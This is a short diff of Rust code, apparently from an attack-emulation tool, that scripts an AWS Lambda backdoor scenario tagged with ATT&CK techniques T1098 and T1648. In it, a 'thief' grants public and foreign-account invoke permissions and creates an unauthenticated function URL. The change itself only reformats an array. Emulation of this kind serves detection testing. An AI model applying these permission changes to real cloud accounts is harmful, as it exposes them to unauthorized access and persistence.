@@ -39,7 +39,12 @@ fn lambda_backdoor(t: &mut Teller<'_>) {
     t.call(&thief, place, "lambda:PublishVersion", &[("function", &function)]);
     t.call(&thief, place, "lambda:UpdateAlias", &[("function", &function)]);
     t.step("T1098", "Everybody, and a foreign account, may invoke it");
-    let everybody: &[(&str, &str)] = &[("function", &function), ("statement_id", "FunctionURLAllowPublicAccess"), ("invoker", "*"), ("invoke_action", "lambda:InvokeFunctionUrl")];
+    let everybody: &[(&str, &str)] = &[
+        ("function", &function),
+        ("statement_id", "FunctionURLAllowPublicAccess"),
+        ("invoker", "*"),
+        ("invoke_action", "lambda:InvokeFunctionUrl"),
+    ];
     t.call(&thief, place, "lambda:AddPermission", everybody);
     t.call(&thief, place, "lambda:AddPermission", &[("function", &function), ("statement_id", "sync"), ("invoker", &outside)]);
     t.step("T1648", "A URL without authentication is made, and a second function that runs every quarter of an hour");
